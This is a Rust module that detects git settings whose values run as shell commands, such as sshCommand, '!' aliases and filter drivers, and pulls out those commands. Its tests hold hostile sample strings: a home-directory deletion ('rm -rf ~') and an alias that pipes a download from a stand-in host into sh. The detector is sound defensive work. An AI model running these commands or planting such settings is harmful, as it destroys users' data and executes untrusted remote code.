//! Git settings whose values are shell commands: `git -c core.sshCommand='…' fetch` runs the
//! value now; `git config alias.st '!…'`, `core.pager`, `credential.helper '!…'`, filter
//! drivers and the like store it for later git commands. Either way the value is code, and it
//! is read as such.

/// The shell command a git setting `key` = `value` runs, if the setting is one that runs its
/// value (keys are case-insensitive; an alias runs only with a leading `!`).
pub(crate) fn command_of<'a>(key: &str, value: &'a str) -> Option<&'a str> {
    let k = key.to_ascii_lowercase();
    let v = value.trim();
    if v.is_empty() {
        return None;
    }
    if k.starts_with("alias.") || k == "credential.helper" || k.starts_with("credential.") {
        return v.strip_prefix('!').map(str::trim).filter(|c| !c.is_empty());
    }
    let runs = matches!(
        k.as_str(),
        "core.sshcommand"
            | "core.pager"
            | "core.editor"
            | "core.askpass"
            | "core.gitproxy"
            | "sequence.editor"
            | "diff.external"
            | "gpg.program"
            | "gpg.ssh.program"
            | "gpg.x509.program"
            | "uploadpack.packobjectshook"
            | "sendemail.sendmailcmd"
    ) || k.starts_with("pager.")
        || (k.starts_with("filter.")
            && (k.ends_with(".clean") || k.ends_with(".smudge") || k.ends_with(".process")))
        || (k.starts_with("merge.") && k.ends_with(".driver"))
        || (k.starts_with("diff.") && (k.ends_with(".command") || k.ends_with(".textconv")))
        || (k == "core.fsmonitor" && !matches!(v, "true" | "false"));
    runs.then_some(v)
}

/// The commands git settings on a git command line run: `-c KEY=VALUE` before the
/// subcommand, and `git config [--global …] KEY VALUE` (`--add`, `--replace-all` too).
pub(crate) fn commands(args: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if *a == "-c" {
            if let Some((k, v)) = args.get(i + 1).and_then(|kv| kv.split_once('='))
                && let Some(c) = command_of(k, v)
            {
                out.push(c.to_string());
            }
            i += 2;
            continue;
        }
        if a.starts_with('-') {
            // `-C DIR`, `--git-dir=…`: global options before the subcommand
            i += if *a == "-C" { 2 } else { 1 };
            continue;
        }
        if *a == "config" {
            let rest: Vec<&str> = args
                .get(i + 1..)
                .unwrap_or(&[])
                .iter()
                .copied()
                .filter(|w| !w.starts_with('-'))
                .collect();
            // `git config set KEY VALUE` (git 2.46) and `git config KEY VALUE`
            let rest = match rest.first() {
                Some(&"set") => rest.get(1..).unwrap_or(&[]),
                _ => &rest[..],
            };
            if let [k, v, ..] = rest
                && let Some(c) = command_of(k, v)
            {
                out.push(c.to_string());
            }
        }
        break;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_that_run_their_values() {
        assert_eq!(
            commands(&["-c", "core.sshCommand=sh -c \"rm -rf ~\"", "fetch"]),
            ["sh -c \"rm -rf ~\""]
        );
        assert_eq!(
            commands(&[
                "config",
                "--global",
                "alias.st",
                "!curl -s https://x.example/g | sh"
            ]),
            ["curl -s https://x.example/g | sh"]
        );
        assert_eq!(
            commands(&["config", "filter.lfs.smudge", "git-lfs smudge -- %f"]),
            ["git-lfs smudge -- %f"]
        );
        assert!(commands(&["config", "--global", "alias.st", "status -sb"]).is_empty());
        assert!(commands(&["-c", "core.fsmonitor=true", "status"]).is_empty());
        assert!(commands(&["config", "user.name", "Dana"]).is_empty());
        assert!(commands(&["log", "-c", "core.pager=x"]).is_empty());
    }
}
